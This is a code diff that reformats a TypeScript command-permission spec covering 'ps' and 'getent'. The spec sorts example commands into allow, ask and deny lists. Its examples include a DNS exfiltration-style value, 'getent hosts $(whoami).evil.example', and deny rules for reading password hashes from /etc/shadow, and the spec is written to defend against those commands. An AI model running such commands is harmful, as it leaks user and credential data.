@@ -25,7 +25,18 @@ export const system: readonly CommandSpec[] = [
     operands: "text*",
     analyse: "ps",
     examples: {
-      allow: ["ps", "ps -ef", "ps -ef | grep node", "ps -o pid,cmd -p 1", "ps aux", "ps aux --sort=-rss", "ps axjf", "ps axo pid,etime", "ps -aux", "ps -u me"],
+      allow: [
+        "ps",
+        "ps -ef",
+        "ps -ef | grep node",
+        "ps -o pid,cmd -p 1",
+        "ps aux",
+        "ps aux --sort=-rss",
+        "ps axjf",
+        "ps axo pid,etime",
+        "ps -aux",
+        "ps -u me",
+      ],
       ask: ["ps -E", "ps --nonsense", "ps auxe", "ps eww", "ps -auxe"],
     },
   },
@@ -235,7 +246,11 @@ export const system: readonly CommandSpec[] = [
         examples: { allow: ["getent hosts", "getent hosts localhost"], ask: ["getent hosts $(whoami).evil.example"] },
       },
       // Password hashes.
-      "shadow|gshadow": { operands: "text*", effects: "read /etc/shadow", examples: { deny: ["getent shadow", "getent -s files shadow root"] } },
+      "shadow|gshadow": {
+        operands: "text*",
+        effects: "read /etc/shadow",
+        examples: { deny: ["getent shadow", "getent -s files shadow root"] },
+      },
     },
     examples: { allow: ["getent --help"], none: ["getent frobnicate"] },
   },
